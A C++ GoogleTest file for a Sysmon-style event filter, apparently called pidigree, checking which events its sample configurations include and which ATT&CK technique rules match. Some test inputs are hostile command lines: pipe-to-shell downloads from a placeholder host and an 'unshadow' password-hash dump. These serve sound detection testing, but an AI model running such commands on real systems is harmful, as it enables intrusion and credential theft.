// Configurations written the way people write them, and what they mean for events that people meet.

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <fstream>
#include <map>
#include <ostream>
#include <sstream>
#include <string>
#include <utility>

#include "schema/events.h"
#include "src/config/config.h"
#include "src/filter/rule_set.h"
#include "tests/support/plain_record.h"

namespace pidigree {
namespace {

LoadedConfig LoadSample(const std::string& name) {
  std::ifstream file(std::string(PIDIGREE_SOURCE_DIR "/tests/data/config/") + name + ".xml",
                     std::ios::binary);
  std::ostringstream bytes;
  bytes << file.rdbuf();
  return LoadConfig(bytes.str());
}

struct SampleCase {
  std::string_view name;
  std::string config;
  const EventType* type;
  std::map<std::string, std::string> fields;
  bool included;
  std::string_view rule_name = "-";
};

void PrintTo(const SampleCase& c, std::ostream* out) { *out << c.config << ": " << c.name; }

class SampleConfig : public testing::TestWithParam<SampleCase> {};

TEST_P(SampleConfig, Decides) {
  const SampleCase& c = GetParam();
  LoadedConfig loaded = LoadSample(c.config);
  ASSERT_TRUE(loaded.ok()) << loaded.errors.front().line << ": " << loaded.errors.front().text;
  const RuleSet rules(std::move(loaded.config));
  const PlainEvent event = EventWith(*c.type, c.fields);
  const PlainRecord record(*c.type, event);
  EXPECT_EQ(rules.Decide(record.record()), (Decision{c.included, c.rule_name}))
      << rules.Explain(record.record()).text;
}

std::string SampleName(const testing::TestParamInfo<SampleCase>& info) {
  return std::string(info.param.name);
}

INSTANTIATE_TEST_SUITE_P(
    DefaultExclude, SampleConfig,
    testing::Values(
        SampleCase{"OrdinaryProcess",
                   "default_exclude",
                   &kProcessCreate,
                   {{"Image", "/usr/bin/id"}, {"User", "alice"}},
                   true},
        SampleCase{"PackageManager",
                   "default_exclude",
                   &kProcessCreate,
                   {{"ParentImage", "/usr/lib/apt/apt.systemd.daily"}},
                   false},
        SampleCase{"EscapedCommandLine",
                   "default_exclude",
                   &kProcessCreate,
                   {{"CommandLine", "/bin/sh -c command -v debian-sa1 > /dev/null"}},
                   false},
        SampleCase{"AgentPolls",
                   "default_exclude",
                   &kProcessCreate,
                   {{"ParentImage", "/usr/sbin/zabbix_agentd"},
                    {"User", "zabbix"},
                    {"CommandLine", "sh -c df -P"}},
                   false},
        SampleCase{"AgentDownloads",
                   "default_exclude",
                   &kProcessCreate,
                   {{"ParentImage", "/usr/sbin/zabbix_agentd"},
                    {"User", "zabbix"},
                    {"CommandLine", "sh -c CURL http://x/"}},
                   true},
        SampleCase{"AgentOfSomebodyElse",
                   "default_exclude",
                   &kProcessCreate,
                   {{"ParentImage", "/usr/sbin/zabbix_agentd"}, {"User", "alice"}},
                   true},
        SampleCase{"DnsPort",
                   "default_exclude",
                   &kNetworkConnect,
                   {{"DestinationPort", "53"}, {"DestinationIp", "9.9.9.9"}},
                   false},
        SampleCase{"OtherPort",
                   "default_exclude",
                   &kNetworkConnect,
                   {{"DestinationPort", "5353"}, {"DestinationIp", "9.9.9.9"}},
                   true},
        SampleCase{"EveryEndOfAProcess", "default_exclude", &kProcessTerminate, {}, true},
        SampleCase{"CronFile",
                   "default_exclude",
                   &kFileCreate,
                   {{"TargetFilename", "/etc/cron.d/x"}},
                   true,
                   "Startup"},
        SampleCase{
            "OtherFile", "default_exclude", &kFileCreate, {{"TargetFilename", "/etc/motd"}}, false},
        SampleCase{"EventItDoesNotName", "default_exclude", &kRawAccessRead, {}, false}),
    SampleName);

INSTANTIATE_TEST_SUITE_P(
    Techniques, SampleConfig,
    testing::Values(
        SampleCase{"DownloadIntoShell",
                   "techniques",
                   &kProcessCreate,
                   {{"CommandLine", "bash -c curl http://x/ | sh"}},
                   true,
                   "TechniqueID=T1059.004,TechniqueName=Unix Shell"},
        SampleCase{"DownloadAlone",
                   "techniques",
                   &kProcessCreate,
                   {{"CommandLine", "curl http://x/"}},
                   false},
        SampleCase{"AllOfAList",
                   "techniques",
                   &kProcessCreate,
                   {{"CommandLine", "unshadow /tmp/PASSWD /tmp/s"}},
                   true,
                   "TechniqueID=T1003.008,TechniqueName=/etc/passwd and /etc/shadow"},
        SampleCase{"CData",
                   "techniques",
                   &kProcessCreate,
                   {{"CommandLine", "bash -c source <(curl x)"}},
                   true,
                   "TechniqueID=T1105,TechniqueName=Ingress Tool Transfer"},
        SampleCase{"Discovery",
                   "techniques",
                   &kProcessCreate,
                   {{"Image", "/usr/bin/whoami"}},
                   true,
                   "TechniqueID=T1033,TechniqueName=System Owner/User Discovery"},
        SampleCase{"PortInAList",
                   "techniques",
                   &kNetworkConnect,
                   {{"DestinationPort", "5555"}},
                   true,
                   "TechniqueID=T1571,TechniqueName=Non-Standard Port"},
        SampleCase{
            "PortInNoList", "techniques", &kNetworkConnect, {{"DestinationPort", "555"}}, false},
        SampleCase{"EndOfAProcessByDefault", "techniques", &kProcessTerminate, {}, true}),
    SampleName);

INSTANTIATE_TEST_SUITE_P(
    Modular, SampleConfig,
    testing::Values(
        SampleCase{"NameOfTheGroup",
                   "modular",
                   &kFileCreate,
                   {{"TargetFilename", "/etc/init.d/x"}, {"User", "root"}},
                   true,
                   "persistence"},
        SampleCase{"NameOfTheFilter",
                   "modular",
                   &kFileCreate,
                   {{"TargetFilename", "/var/spool/cron/root"}, {"User", "root"}},
                   true,
                   "cron"},
        SampleCase{"Rule",
                   "modular",
                   &kFileCreate,
                   {{"TargetFilename", "/home/a/.bashrc"}, {"Image", "/bin/ed"}},
                   true,
                   "persistence"},
        SampleCase{"RuleWithAnException",
                   "modular",
                   &kFileCreate,
                   {{"TargetFilename", "/home/a/.bashrc"}, {"Image", "/usr/sbin/useradd"}},
                   false},
        SampleCase{"RepeatsAreAlternatives",
                   "modular",
                   &kFileCreate,
                   {{"TargetFilename", "/dev/shm/x"}, {"User", "bob"}},
                   true,
                   "staging"},
        SampleCase{"EachFieldHasToMatch",
                   "modular",
                   &kFileCreate,
                   {{"TargetFilename", "/dev/shm/x"}, {"User", "root"}},
                   false},
        SampleCase{"ExcludeGoesFirst",
                   "modular",
                   &kFileCreate,
                   {{"TargetFilename", "/etc/init.d/x.dpkg-new"}},
                   false},
        SampleCase{
            "AccessAsHex",
            "modular",
            &kProcessAccess,
            {{"TargetImage", "/usr/sbin/sshd"}, {"GrantedAccess", "0x1f"}, {"SourceUser", "root"}},
            true},
        SampleCase{
            "AccessThatIsHarmless",
            "modular",
            &kProcessAccess,
            {{"TargetImage", "/usr/sbin/sshd"}, {"GrantedAccess", "0x400"}, {"SourceUser", "root"}},
            false},
        SampleCase{
            "UserBeforeM",
            "modular",
            &kProcessAccess,
            {{"TargetImage", "/usr/sbin/sshd"}, {"GrantedAccess", "0x1f"}, {"SourceUser", "bob"}},
            false},
        SampleCase{"OutsideAGroupNewSchemasMeanAnd",
                   "modular",
                   &kFileDeleteDetected,
                   {{"TargetFilename", "/var/log/x"}, {"IsExecutable", "true"}},
                   false},
        SampleCase{"Boolean",
                   "modular",
                   &kFileDeleteDetected,
                   {{"TargetFilename", "/var/log/x"}, {"IsExecutable", "false"}},
                   true},
        SampleCase{"EmptyIncludeIsNone", "modular", &kProcessTerminate, {}, false}),
    SampleName);

INSTANTIATE_TEST_SUITE_P(
    WindowsStyle, SampleConfig,
    testing::Values(
        SampleCase{"ImageAfterBackslash",
                   "windows_style",
                   &kProcessCreate,
                   {{"Image", "C:\\Windows\\System32\\cmd.exe"}},
                   true},
        SampleCase{"NoResource", "windows_style", &kProcessCreate, {{"Image", "/bin/sh"}}, false},
        SampleCase{"SeriesFieldOfAll",
                   "windows_style",
                   &kRegistryAddDelete,
                   {{"TargetObject", "HKLM\\x\\CurrentVersion\\Run\\y"}},
                   true,
                   "T1547.001"},
        SampleCase{"SeriesFieldOfOne",
                   "windows_style",
                   &kRegistryValueSet,
                   {{"TargetObject", "HKLM\\x"}, {"Details", "DWORD (0x00000001)"}},
                   true,
                   "T1112"},
        SampleCase{"SeriesFieldOfAnother",
                   "windows_style",
                   &kRegistryRename,
                   {{"TargetObject", "HKLM\\x"}},
                   false},
        SampleCase{"PipeCreated",
                   "windows_style",
                   &kPipeCreated,
                   {{"PipeName", "\\other"}, {"EventType", "CreatePipe"}},
                   true},
        SampleCase{"PipeConnected",
                   "windows_style",
                   &kPipeConnected,
                   {{"PipeName", "\\other"}, {"EventType", "ConnectPipe"}},
                   false}),
    SampleName);

INSTANTIATE_TEST_SUITE_P(
    Legacy, SampleConfig,
    testing::Values(
        SampleCase{"OldSchemasMeanOr",
                   "legacy",
                   &kProcessCreate,
                   {{"Image", "/usr/bin/nmap"}, {"User", "bob"}},
                   true},
        SampleCase{"NoConditionIsIs",
                   "legacy",
                   &kProcessCreate,
                   {{"Image", "/bin/sh"}, {"User", "ROOT"}},
                   true},
        SampleCase{
            "Neither", "legacy", &kProcessCreate, {{"Image", "/bin/sh"}, {"User", "rooty"}}, false},
        SampleCase{"Cron", "legacy", &kProcessTerminate, {{"Image", "/usr/sbin/cron"}}, false},
        SampleCase{"NotCron", "legacy", &kProcessTerminate, {{"Image", "/usr/sbin/crond"}}, true},
        SampleCase{"DefaultIncludeIsExclude",
                   "legacy",
                   &kDriverLoad,
                   {{"ImageLoaded", "/lib/modules/6.1/x.ko"}},
                   false},
        SampleCase{"DefaultIncludeLogsOthers",
                   "legacy",
                   &kDriverLoad,
                   {{"ImageLoaded", "/tmp/x.ko"}},
                   true}),
    SampleName);

// What is only for Windows, or cannot match, is no reason to refuse a file, but to say so.
TEST(SampleConfigs, WarnOfWhatCannotMatch) {
  EXPECT_TRUE(LoadSample("techniques").ok());
  const LoadedConfig loaded = LoadSample("windows_style");
  ASSERT_TRUE(loaded.ok());
  std::vector<uint32_t> lines;
  for (const ConfigMessage& warning : loaded.warnings) lines.push_back(warning.line);
  // ArchiveDirectory, DriverName, a field without contents, a '\' path.
  EXPECT_THAT(lines, testing::IsSupersetOf({4u, 5u, 9u, 11u}));
}

}  // namespace
}  // namespace pidigree
